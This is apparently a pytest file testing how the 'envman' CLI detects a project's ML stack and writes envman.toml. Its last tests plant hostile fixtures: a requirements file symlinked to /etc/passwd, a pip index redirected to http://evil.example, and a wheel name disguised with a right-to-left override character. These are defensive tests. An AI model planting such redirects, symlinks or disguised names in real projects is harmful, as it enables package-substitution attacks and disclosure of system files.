"""``envman project detect`` and ``envman project init`` without a stack, as a user runs them."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from envman.project.file import load_project
from tests.support.cli import run_envman


@pytest.fixture
def env(tmp_path):
    e = dict(os.environ)
    e.update(ENVMAN_CONFIG_DIR=str(tmp_path / "config"), ENVMAN_STATE_DIR=str(tmp_path / "state"), COLUMNS="200")
    return e


def paper(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


PAPER = {
    "requirements.txt": "-f https://download.pytorch.org/whl/torch_stable.html\ntorch==1.7.1+cu110\ntorchvision==0.8.2+cu110\n"
                        "tensorflow==2.4.0\neinops==0.3.0\n-e .\n",
    "environment.yml": "dependencies:\n  - python=3.8\n",
    "train.py": "import torch\n", "models.py": "import torch.nn as nn\n", "metrics/fid.py": "import tensorflow as tf\n",
    "README.md": "Tested with PyTorch 1.7.1 and CUDA 11.0.\n",
}


def test_detect_text_names_the_stack_and_what_decided_it(tmp_path, env):
    repo = paper(tmp_path / "paper", PAPER)
    r = run_envman(["project", "detect", str(repo)], env=env)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert lines[0] == "torch-1.7.1-cuda11.0-py3.8  (torch 1.7.1, CUDA 11.0, Python 3.8)"
    assert any(ln.split()[:2] == ["requirements.txt:2", "torch"] for ln in lines[1:])
    assert any("environment.yml:2" in ln and "Python ==3.8.*" in ln for ln in lines)
    assert lines[-1] == "  requirements from requirements.txt: 2 left out, 2 provided, 2 kept"
    assert 4 <= len(lines) <= 12


def test_detect_json_carries_every_statement_with_its_reason(tmp_path, env):
    repo = paper(tmp_path / "paper", PAPER)
    r = run_envman(["project", "detect", str(repo), "--json"], env=env)
    doc = json.loads(r.stdout)
    assert {k: doc[k] for k in ("stack", "framework", "framework_version", "cuda", "python")} == {
        "stack": "torch-1.7.1-cuda11.0-py3.8", "framework": "torch", "framework_version": "1.7.1", "cuda": "11.0",
        "python": "3.8"}
    assert all({"file", "line", "text", "means", "used", "why"} <= set(e) for e in doc["evidence"])
    tf = [e for e in doc["evidence"] if e["file"] == "requirements.txt" and e["line"] == 4]
    assert tf and not tf[0]["used"] and "tool" in tf[0]["why"]
    assert doc["conflicts"] == [] and isinstance(doc["alternatives"], list) and doc["error"] is None
    assert doc["requirements"]["requirements"] == ["tensorflow==2.4.0", "einops==0.3.0"]


def test_detect_exits_2_with_one_line_when_no_stack_fits(tmp_path, env):
    repo = paper(tmp_path / "old", {"requirements.txt": "torch==0.1.10\n"})
    r = run_envman(["project", "detect", str(repo)], env=env)
    assert r.returncode == 2 and r.stdout == ""
    assert len(r.stderr.strip().splitlines()) == 1 and "torch ==0.1.10" in r.stderr and "Traceback" not in r.stderr
    r = run_envman(["project", "detect", str(repo), "--json"], env=env)
    assert r.returncode == 2 and json.loads(r.stdout)["error"]["what"].startswith("requirements.txt:1 pins torch")
    caffe = paper(tmp_path / "caffe", {"net.py": "import caffe\n"})
    r = run_envman(["project", "detect", str(caffe)], env=env)
    assert r.returncode == 2 and "Caffe" in r.stderr and "does not build" in r.stderr


def test_detect_reads_a_2020_jax_paper_by_its_jaxlib_pin_and_refuses_one_no_row_installs(tmp_path, env):
    repo = paper(tmp_path / "jax2020", {"requirements.txt": "jaxlib==0.1.52+cuda101\n", "train.py": "import jax\n"})
    r = run_envman(["project", "detect", str(repo)], env=env)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[0] == "jax-0.1.76-cuda10.1-py3.6  (jax 0.1.76, CUDA 10.1, Python 3.6)"
    assert r.stdout.splitlines()[-1] == "  requirements from requirements.txt: 1 provided"
    (repo / "requirements.txt").write_text("jaxlib==0.1.51+cuda101\n")
    r = run_envman(["project", "detect", str(repo)], env=env)
    assert r.returncode == 2 and r.stdout == "" and "Traceback" not in r.stderr
    assert len(r.stderr.strip().splitlines()) == 1 and "pins jax jaxlib==0.1.51" in r.stderr


def test_detect_judges_against_a_gpu_and_driver_given(tmp_path, env):
    repo = paper(tmp_path / "paper", {"requirements.txt": "torch==1.7.1\n"})
    r = run_envman(["project", "detect", str(repo), "--gpu", "H100", "--driver", "580.95.05"], env=env)
    assert r.returncode == 2 and "does not run here" in r.stderr and "relax requirements.txt:1" in r.stderr
    r = run_envman(["project", "detect", str(repo), "--sm", "7.5", "--driver", "470.57.02", "--json"], env=env)
    doc = json.loads(r.stdout)
    assert r.returncode == 0 and doc["host"]["runs"] is True and doc["framework_version"] == "1.7.1"


def test_detect_refuses_what_is_not_a_folder(tmp_path, env):
    (tmp_path / "file").write_text("x")
    for target in (tmp_path / "file", tmp_path / "missing"):
        r = run_envman(["project", "detect", str(target)], env=env)
        assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1


def test_init_without_a_stack_writes_the_detected_stack_and_the_layer(tmp_path, env):
    repo = paper(tmp_path / "paper", PAPER)
    r = run_envman(["project", "init"], env=env, cwd=repo)
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines()[0].startswith("torch-1.7.1-cuda11.0-py3.8")
    assert "2 requirements from requirements.txt" in r.stdout.splitlines()[-1]
    p = load_project(repo)
    assert p.stack == "torch-1.7.1-cuda11.0-py3.8"
    assert p.requirements.split() == ["tensorflow==2.4.0", "einops==0.3.0"]
    assert "# detected: requirements.txt:2" in (repo / "envman.toml").read_text()


def test_init_keeps_a_clean_requirements_file_by_name(tmp_path, env):
    repo = paper(tmp_path / "clean", {"requirements.txt": "torch==2.4.1\neinops==0.8.1\n", "a.py": "import torch\n"})
    r = run_envman(["project", "init"], env=env, cwd=repo)
    assert r.returncode == 0, r.stderr
    text = (repo / "envman.toml").read_text()
    assert 'requirements = "requirements.txt"' not in text  # torch is the stack's: the list leaves it out
    assert load_project(repo).requirements.split() == ["einops==0.8.1"]
    plain = paper(tmp_path / "plain", {"requirements.txt": "einops==0.8.1\n"})
    r = run_envman(["project", "init", "--stack", "torch-2.4-cuda12"], env=env, cwd=plain)
    assert r.returncode == 0 and 'requirements = "requirements.txt"' in (plain / "envman.toml").read_text()


def test_init_with_a_stack_refuses_a_pin_that_would_replace_its_framework(tmp_path, env):
    repo = paper(tmp_path / "paper", {"requirements.txt": "torch==1.9.0\n"})
    r = run_envman(["project", "init", "--stack", "torch-2.4-cuda12"], env=env, cwd=repo)
    assert r.returncode == 2 and not (repo / "envman.toml").exists()
    assert "'torch==1.9.0' would replace the stack's torch 2.4" in r.stderr and len(r.stderr.strip().splitlines()) == 1


def test_init_without_a_stack_in_a_folder_that_names_none(tmp_path, env):
    empty = paper(tmp_path / "empty", {"README.md": "notes\n"})
    r = run_envman(["project", "init"], env=env, cwd=empty)
    assert r.returncode == 2 and "--stack" in r.stderr and not (empty / "envman.toml").exists()


@pytest.mark.parametrize("make", ["fifo", "symlink_out", "huge", "binary", "deep"])
def test_hostile_repositories_cost_nothing_and_leak_nothing(tmp_path, env, make):
    repo = paper(tmp_path / "hostile", {"a.py": "import torch\n"})
    if make == "fifo":
        os.mkfifo(repo / "requirements.txt")
    elif make == "symlink_out":
        (repo / "requirements.txt").symlink_to("/etc/passwd")
        (repo / "docs").symlink_to("/etc")
    elif make == "huge":
        (repo / "requirements.txt").write_text("torch==1.7.1\n" + "x" * (2 * 1024 * 1024))
    elif make == "binary":
        (repo / "requirements.txt").write_bytes(b"torch==1.7.1\n\0\xff\xfe")
    else:
        deep = repo
        for i in range(60):
            deep = deep / "d"
        deep.mkdir(parents=True)
        (deep / "requirements.txt").write_text("torch==0.1.10\n")
    r = run_envman(["project", "detect", str(repo), "--json"], env=env, timeout=60)
    doc = json.loads(r.stdout)
    assert r.returncode == 0 and doc["framework"] == "torch"
    assert all(e["file"] != "requirements.txt" or make not in ("fifo", "symlink_out", "huge", "binary")
               for e in doc["evidence"])
    assert "root:" not in r.stdout


def test_init_writes_invisible_characters_escaped_and_never_names_a_file_the_build_refuses(tmp_path, env):
    import tomllib

    repo = paper(tmp_path / "odd", {"requirements.txt": "numpy --index-url=http://evil.example/simple\nscipy\n"
                                                        "baz @ https://example.org/\u202egnp.whl\n",
                                    "a.py": "import torch\n"})
    r = run_envman(["project", "init"], env=env, cwd=repo)
    assert r.returncode == 0, r.stderr
    text = (repo / "envman.toml").read_text()
    assert 'requirements = "requirements.txt"' not in text and "\u202e" not in text and "\\u202e" in text
    assert tomllib.loads(text)["requirements"] == ["scipy", "baz @ https://example.org/\u202egnp.whl"]
